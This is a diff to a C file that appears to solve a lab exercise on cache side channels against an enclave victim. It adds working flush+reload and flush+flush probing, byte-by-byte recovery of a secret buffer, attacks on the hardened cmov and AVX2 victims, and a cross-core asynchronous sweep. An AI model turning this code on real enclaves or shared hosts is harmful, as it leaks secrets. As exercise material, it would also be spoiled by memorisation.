@@ -1,6 +1,12 @@
 /* utility headers */
 #include "debug.h"
 #include "cacheutils.h"
+#include "fr.h"
+#include "probe.h"
+#include "oblivious.h"
+#include "xorshift.h"
+#include <string.h>
+#include <time.h>
 #include "victim.h"
 
 #define NUM_SAMPLES         100
@@ -8,25 +14,233 @@
 #define SLOT_SIZE           0x1000
 #define ARRAY_LEN           (NUM_SLOTS*SLOT_SIZE)
 #define GET_SLOT(k)         (array[k*SLOT_SIZE])
-char __attribute__((aligned(0x1000))) array[ARRAY_LEN];
 
-int compare(const void * a, const void * b) {
-   return ( *(uint64_t*)a - *(uint64_t*)b );
+/* on 2 MiB pages where available, so that no probe takes a TLB miss */
+probe_buf_t probe_mem;
+char *array;
+
+int hits[NUM_SLOTS];
+void *slot_adrs[NUM_SLOTS];
+int lat[NUM_SLOTS];
+cache_calib_t calib;
+
+/*
+ * Streaming mode (-s [64|4096]): the victim indexes a 256-entry table at the
+ * given stride with every byte of its secret buffer, and the attacker
+ * recovers the whole buffer byte by byte in one run. Every round flushes the
+ * table, runs the victim once, and reloads all slots in a fresh random order
+ * so that the prefetchers cannot follow the probe sequence. The fastest hit
+ * of a round gets a vote: at 64-byte stride, the adjacent line that the
+ * spatial prefetcher pulls in with the victim's line comes from L2 and thus
+ * loses against it. A byte is decided once its slot leads by STREAM_MARGIN
+ * votes; bytes still undecided after STREAM_MAX_ROUNDS rounds are reported
+ * and shown as '?'.
+ */
+#define STREAM_SLOTS        256
+#define STREAM_MAX_LEN      4096
+#define STREAM_MARGIN       3
+#define STREAM_MAX_ROUNDS   64
+
+probe_buf_t table_mem;
+
+void stream(int stride)
+{
+    void *adrs[STREAM_SLOTS], *probe[STREAM_SLOTS];
+    int perm[STREAM_SLOTS], lat[STREAM_SLOTS], votes[STREAM_SLOTS];
+    int len = ecall_secret_len(), i, j, k, r, t, fast, best, second;
+    int undecided = 0;
+    uint64_t seed = xorshift_seed(), rounds = 0;
+    char out[STREAM_MAX_LEN+1];
+    struct timespec t1, t2;
+    double secs;
+
+    ASSERT(stride == 64 || stride == SLOT_SIZE);
+    ASSERT(len <= STREAM_MAX_LEN);
+    ASSERT(!probe_alloc(&table_mem, STREAM_SLOTS, stride, PROBE_HUGE));
+    info("table: %d slots of %d bytes on %s pages", STREAM_SLOTS, stride,
+         probe_backing_name(&table_mem));
+    for (k=0; k < STREAM_SLOTS; k++)
+    {
+        adrs[k] = table_mem.slot[k];
+        perm[k] = k;
+    }
+
+    info("calibrating cache hit threshold (flush+reload)..");
+    calibrate_threshold(&calib, adrs[0]);
+    info("hit median=%d; miss median=%d; threshold=%d (error rate %.4f)",
+         calib.hit_med, calib.miss_med, calib.threshold, calib.error_rate);
+
+    info_event("streaming %d secret bytes (stride %d)", len, stride);
+    clock_gettime(CLOCK_MONOTONIC, &t1);
+    for (i=0; i < len; i++)
+    {
+        memset(votes, 0, sizeof(votes));
+        best = second = 0;
+        for (r=0; r < STREAM_MAX_ROUNDS; r++)
+        {
+            for (k=STREAM_SLOTS-1; k > 0; k--)
+            {
+                j = xorshift(&seed) % (k+1);
+                t = perm[k]; perm[k] = perm[j]; perm[j] = t;
+            }
+            for (k=0; k < STREAM_SLOTS; k++)
+                probe[k] = adrs[perm[k]];
+
+            flush_batch(adrs, STREAM_SLOTS);
+            ecall_secret_stream(table_mem.base, stride, i);
+            reload_batch_256(probe, lat);
+
+            for (k=0, fast=-1; k < STREAM_SLOTS; k++)
+                if (cache_hit(&calib, lat[k]) && (fast < 0 || lat[k] < lat[fast]))
+                    fast = k;
+            if (fast < 0)
+                continue;
+            votes[perm[fast]]++;
+
+            for (k=0, best=-1, second=-1; k < STREAM_SLOTS; k++)
+            {
+                if (best < 0 || votes[k] > votes[best])
+                {
+                    second = best;
+                    best = k;
+                }
+                else if (second < 0 || votes[k] > votes[second])
+                    second = k;
+            }
+            if (votes[best] - votes[second] >= STREAM_MARGIN)
+                break;
+        }
+        /* no clear leader after STREAM_MAX_ROUNDS: do not guess */
+        if (r < STREAM_MAX_ROUNDS)
+        {
+            rounds += r+1;
+            out[i] = best;
+        }
+        else
+        {
+            rounds += r;
+            out[i] = '?';
+            undecided++;
+        }
+    }
+    clock_gettime(CLOCK_MONOTONIC, &t2);
+    secs = (t2.tv_sec - t1.tv_sec) + (t2.tv_nsec - t1.tv_nsec) / 1e9;
+
+    for (i=0; i < len; i++)
+        if (out[i] < 0x20 || out[i] > 0x7e)
+            out[i] = '?';
+    out[len] = '\0';
+    info("recovered '%s'", out);
+    info("%d bytes in %.3f s: %.0f bytes/s (%.1f rounds per byte)",
+         len, secs, len / secs, (double) rounds / len);
+    if (undecided)
+        info("%d byte(s) below the margin of %d votes (shown as '?')",
+             undecided, STREAM_MARGIN);
+    probe_free(&table_mem);
+}
+
+/*
+ * Asynchronous mode (-a): the victim looks the secret up in a loop on one
+ * core while an attacker thread on another core probes with fr_async(), for
+ * a range of wait intervals between flush and reload. "detect" is the
+ * fraction of rounds with a hit on the best slot, "false" the average
+ * fraction of rounds with a hit on any other slot.
+ */
+#define ASYNC_ROUNDS        20000
+
+uint64_t async_waits[] = { 0, 100, 300, 1000, 3000, 10000, 30000 };
+
+void async_victim(void *arg)
+{
+    ecall_secret_lookup(array, ARRAY_LEN);
+}
+
+void async_sweep(void)
+{
+    fr_result_t res;
+    uint64_t other;
+    int w, j, best;
+
+    printf("%8s %12s %6s %8s %8s %12s %8s\n", "wait", "probes/s", "guess",
+           "detect", "false", "calls/probe", "dropped");
+    for (w=0; w < sizeof(async_waits) / sizeof(async_waits[0]); w++)
+    {
+        fr_async(slot_adrs, NUM_SLOTS, &calib, async_victim, NULL,
+                 async_waits[w], ASYNC_ROUNDS, &res);
+
+        for (j=0, best=0, other=0; j < NUM_SLOTS; j++)
+        {
+            other += res.hits[j];
+            if (res.hits[j] > res.hits[best])
+                best = j;
+        }
+        other -= res.hits[best];
+
+        printf("%8lu %12.0f %6d %8.4f %8.4f %12.2f %8lu\n", async_waits[w],
+               res.rounds / res.secs, best,
+               (double) res.hits[best] / res.rounds,
+               (double) other / res.rounds / (NUM_SLOTS-1),
+               (double) res.victim_calls / res.rounds, res.dropped);
+    }
+    info("victim on cpu %d, attacker on cpu %d", res.victim_cpu,
+         res.attacker_cpu);
 }
-int tsc[NUM_SLOTS][NUM_SAMPLES];
 
 int main( int argc, char **argv )
 {
     int rv = 1, secret = 0;
-    int i, j, med;
+    int i, j, best;
+    int use_ff = (argc > 1) && !strcmp(argv[1], "-f");
+    int use_async = (argc > 1) && !strcmp(argv[1], "-a");
+    void (*victim)(char *, int) = ecall_secret_lookup;
+
+    /* -o [cmov|avx2]: attack one of the hardened (oblivious) victims */
+    if (argc > 1 && !strcmp(argv[1], "-o"))
+    {
+        victim = (argc > 2 && !strcmp(argv[2], "avx2")) ?
+                 ecall_secret_lookup_avx2 : ecall_secret_lookup_cmov;
+        if (victim == ecall_secret_lookup_avx2 && !oblivious_has_avx2())
+        {
+            info("WARNING: no AVX2; attacking the cmov victim instead");
+            victim = ecall_secret_lookup_cmov;
+        }
+    }
+
+    if (argc > 1 && !strcmp(argv[1], "-s"))
+    {
+        stream((argc > 2) ? atoi(argv[2]) : SLOT_SIZE);
+        info("all is well; exiting..");
+        return 0;
+    }
 
     /* Ensure array pages are mapped in */
+    ASSERT(!probe_alloc(&probe_mem, NUM_SLOTS, SLOT_SIZE, PROBE_HUGE));
+    array = probe_mem.base;
     for (i=0; i < ARRAY_LEN; i++)
         array[i] = 0x00;
 
     for (j=0; j < NUM_SLOTS; j++)
-        for (i=0; i < NUM_SAMPLES; i++)
-            tsc[j][i] = 0;
+    {
+        hits[j] = 0;
+        slot_adrs[j] = &GET_SLOT(j);
+    }
+
+    info("calibrating cache hit threshold (%s)..",
+         use_ff ? "flush+flush" : "flush+reload");
+    if (use_ff)
+        calibrate_threshold_ff(&calib, &GET_SLOT(0));
+    else
+        calibrate_threshold(&calib, &GET_SLOT(0));
+    info("hit median=%d; miss median=%d; threshold=%d (error rate %.4f)",
+         calib.hit_med, calib.miss_med, calib.threshold, calib.error_rate);
+
+    if (use_async)
+    {
+        info_event("asynchronous cross-core flush+reload");
+        async_sweep();
+        info("all is well; exiting..");
+        return 0;
+    }
     
     /* ---------------------------------------------------------------------- */
     // info_event("calling victim...");
@@ -35,9 +249,24 @@ int main( int argc, char **argv )
     // ecall_secret_lookup(array, ARRAY_LEN);
 
     /* =========================== START SOLUTION =========================== */
-    // repeat it NUM_SAMPLES times and take the median
+    // flush+flush leaves every slot flushed for the next round, so only
+    // the very first round needs an explicit flush
+    for(int j=0;j<NUM_SLOTS;j++){
+        flush(&array[SLOT_SIZE*j]);
+    }
+
+    // repeat it NUM_SAMPLES times and count the cache hits per slot
     for(int i=0;i<NUM_SAMPLES;i++){
-        uint64_t tsc1, tsc2;
+        if (use_ff){
+            // lookup the secret(victim) -- Step 1
+            victim(array, ARRAY_LEN);
+
+            // flush the array and classify the flush time -- Step 2
+            for(int j=0;j<NUM_SLOTS;j++){
+                hits[j] += cache_hit(&calib, flush_flush(slot_adrs[j]));
+            }
+            continue;
+        }
 
         // flush the array -- Step 1
         for(int j=0;j<NUM_SLOTS;j++){
@@ -45,23 +274,24 @@ int main( int argc, char **argv )
         }
 
         // lookup the secret(victim) -- Step 2
-        ecall_secret_lookup(array, ARRAY_LEN);
+        victim(array, ARRAY_LEN);
 
-        // reload the array and note down time taken -- Step 3
+        // reload the array and classify the time taken -- Step 3
+        reload_batch(slot_adrs, lat, NUM_SLOTS);
         for(int j=0;j<NUM_SLOTS;j++){
-            tsc[j][i] = reload(&array[SLOT_SIZE*j]);
+            hits[j] += cache_hit(&calib, lat[j]);
         }
 
     }
     /* =========================== END SOLUTION =========================== */
 
-    for (j=0; j < NUM_SLOTS; j++)
+    for (j=0, best=0; j < NUM_SLOTS; j++)
     {
-        /* compute median over all samples (avg may be affected by outliers) */
-        qsort(tsc[j], NUM_SAMPLES, sizeof(int), compare);
-        med = tsc[j][NUM_SAMPLES/2];
-        printf("Time slot %3d (CPU cycles): %d\n", j, med);
+        printf("Time slot %3d (cache hits): %d/%d\n", j, hits[j], NUM_SAMPLES);
+        if (hits[j] > hits[best])
+            best = j;
     }
+    info("secret_idx guess = %d", best);
 
     /* ---------------------------------------------------------------------- */
 